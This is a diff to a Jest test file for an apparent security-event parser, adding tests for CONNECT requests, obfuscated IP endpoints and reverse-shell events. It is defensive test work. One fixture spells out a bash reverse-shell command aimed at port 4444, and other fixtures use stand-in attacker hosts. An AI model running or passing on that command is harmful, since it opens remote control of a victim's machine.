@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs';
 import { expect, it } from '@jest/globals';
-import { read } from './harness.ts';
+import { payloadOf, read } from './harness.ts';
 
 const rows = readFileSync(new URL('./inputs/endpoints.ndjson', import.meta.url), 'utf8')
   .trim()
@@ -40,4 +40,19 @@ it('reads the parts of URLs', () => {
     { full: 'https://evil.example.com/a', path: '/a', domain: 'evil.example.com' },
     { full: 'https://gist.github.com/gists' },
   ]);
+});
+
+it.each(['CONNECT', 'connect'])('%s names a host, and no path on it', (method) => {
+  const call = payloadOf('HTTPS-Outbound-Network-Call', { method, host: 'evil.x:443', path: 'evil.x:443' });
+  const { full, original, path } = read(call).http ?? {};
+  expect([full, original, path]).toEqual(['https://evil.x:443', 'evil.x:443', undefined]);
+});
+
+it.each(['0xcb007109', '0xCB.0.0x71.9', '3405803785', '203.0.113'])('%s is no domain', (host) => {
+  expect(read(payloadOf('New-Outbound-Network-Call', { endpoint: `${host}:443` }))).toMatchObject({
+    endpoint: { raw: `${host}:443`, domain: undefined, ip: undefined },
+    warnings: ['endpoint_not_a_host'],
+  });
+  const exec = { exe: '/bin/bash', arguments: ['bash', '-c', `bash -i >& /dev/tcp/${host}/4444 0>&1`] };
+  expect(read(payloadOf('Reverse-Shell', { process_events: [exec] })).endpoint).toBeUndefined();
 });
